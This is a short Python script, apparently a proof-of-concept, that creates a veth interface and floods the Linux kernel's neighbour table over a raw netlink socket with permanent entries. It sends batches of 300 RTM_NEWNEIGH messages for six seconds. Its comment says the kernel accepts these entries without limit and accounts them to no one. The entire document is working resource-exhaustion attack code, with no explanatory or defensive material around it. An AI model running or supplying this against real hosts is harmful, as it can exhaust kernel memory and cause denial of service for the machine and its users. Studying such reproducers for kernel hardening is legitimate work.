# Permanent entries in the table of neighbours, which the kernel takes without end and counts
# for nobody: rtnetlink(7), RTM_NEWNEIGH.
import socket
import struct
import subprocess
import time

NEW, REQUEST, CREATE, PERMANENT, DESTINATION, ADDRESS = 28, 0x1, 0x400, 0x80, 1, 2
subprocess.run("ip link add veth0 type veth peer name veth1".split(), check=True)
subprocess.run("ip link set veth0 up".split(), check=True)
link, made = socket.if_nametoindex("veth0"), 0
asking = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)


def attribute(kind, value):
    return struct.pack("HH", 4 + len(value), kind) + value + bytes(-len(value) % 4)


until = time.monotonic() + 6
while time.monotonic() < until:
    entries = b""
    for made in range(made + 1, made + 301):
        entry = struct.pack("BBHiHBB", socket.AF_INET, 0, 0, link, PERMANENT, 0, 0)
        entry += attribute(DESTINATION, struct.pack(">I", 0x0A000000 + made))
        entry += attribute(ADDRESS, bytes([2, 0, 0, 0, 0, 1]))
        entries += struct.pack("IHHII", 16 + len(entry), NEW, REQUEST | CREATE, made, 0) + entry
    asking.send(entries)
